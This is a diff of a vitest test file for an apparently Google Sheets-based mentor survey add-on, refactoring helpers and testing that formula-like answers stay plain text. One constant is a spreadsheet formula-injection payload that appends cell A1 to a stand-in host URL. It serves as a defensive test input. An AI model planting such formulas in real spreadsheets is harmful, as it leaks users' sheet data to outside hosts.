@@ -5,27 +5,13 @@
 import { describe, expect, it } from 'vitest';
 import { MENTORS_SHEET, RESPONSES_SHEET } from '../../shared/sheets';
 import { SURVEYS } from '../../shared/surveys';
-import type { Answers, LoadedAddon } from '../double';
+import type { LoadedAddon } from '../double';
 import { addonWithForms } from './harness';
+import { cell, form, mentorAnswers } from './surveyHelpers';
 
 const FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1;"y")';
 const PHONE = '+7 900 123-45-67';
-
-function mentorAnswers(name: string, email: string, position = 'учитель математики'): Answers {
-  const q = (field: string) => SURVEYS.mentor.questions.find((x) => x.field === field)!;
-  return {
-    [q('fullName').title]: name,
-    [q('email').title]: email,
-    [q('organisation').title]: 'МБОУ СОШ № 5',
-    [q('position').title]: position,
-    [q('experienceYears').title]: '12',
-    [q('category').title]: q('category').choices![1]!,
-    [q('competencies').title]: 'подготовка к ОГЭ',
-    [q('forms').title]: [q('forms').choices![0]!],
-    [q('capacity').title]: '2',
-    [q('consent').title]: q('consent').choices![0]!,
-  };
-}
+const POSITION = SURVEYS.mentor.questions.find((q) => q.field === 'position')!.title;
 
 /** Every cell of a sheet that holds a live formula, as «A1: formula». */
 function formulas(addon: LoadedAddon, title: string): string[] {
@@ -39,25 +25,20 @@ function formulas(addon: LoadedAddon, title: string): string[] {
   return out;
 }
 
-function cell(addon: LoadedAddon, title: string, row: number, header: string): unknown {
-  const values = addon.double.sheet(title)!.getDataRange().getValues();
-  return values[row - 1]?.[values[0]!.indexOf(header)];
-}
-
 describe('formula-like text stays text (issue 14, defect 3)', () => {
   it('a later filing whose block spans the row writes it back neutralised', async () => {
     const addon = await addonWithForms();
-    const form = addon.double.forms._form(SURVEYS.mentor.title)!;
-    addon.submitForm(form.id, mentorAnswers('Аннина Анна Андреевна', 'annina@school.ru'));
-    addon.submitForm(form.id, mentorAnswers(FORMULA_NAME, 'x@school.ru', PHONE));
-    addon.submitForm(form.id, mentorAnswers('Борисова Вера Олеговна', 'borisova@school.ru'));
+    const f = form(addon, 'mentor');
+    addon.submitForm(f.id, mentorAnswers('Аннина Анна Андреевна', 'annina@school.ru'));
+    addon.submitForm(f.id, mentorAnswers(FORMULA_NAME, 'x@school.ru', { [POSITION]: PHONE }));
+    addon.submitForm(f.id, mentorAnswers('Борисова Вера Олеговна', 'borisova@school.ru'));
     expect(cell(addon, MENTORS_SHEET.title, 3, 'ФИО')).toBe(FORMULA_NAME);
     expect(formulas(addon, MENTORS_SHEET.title)).toEqual([]);
 
     // An answer whose event never came (filed by the next run's sweep), then the first respondent edits:
     // one run writes rows 2 and 5 of the bank, and the block between them spans the row of the formula name.
-    addon.double.forms._submit(form.id, mentorAnswers('Гусева Дина Ильинична', 'guseva@school.ru'));
-    addon.editFormResponse(form.id, 0, { 'Сколько наставляемых готов взять': '3' });
+    addon.double.forms._submit(f.id, mentorAnswers('Гусева Дина Ильинична', 'guseva@school.ru'));
+    addon.editFormResponse(f.id, 0, { 'Сколько наставляемых готов взять': '3' });
     expect(cell(addon, MENTORS_SHEET.title, 2, 'Готов взять наставляемых')).toBe(3);
     expect(cell(addon, MENTORS_SHEET.title, 5, 'ФИО')).toBe('Гусева Дина Ильинична');
 
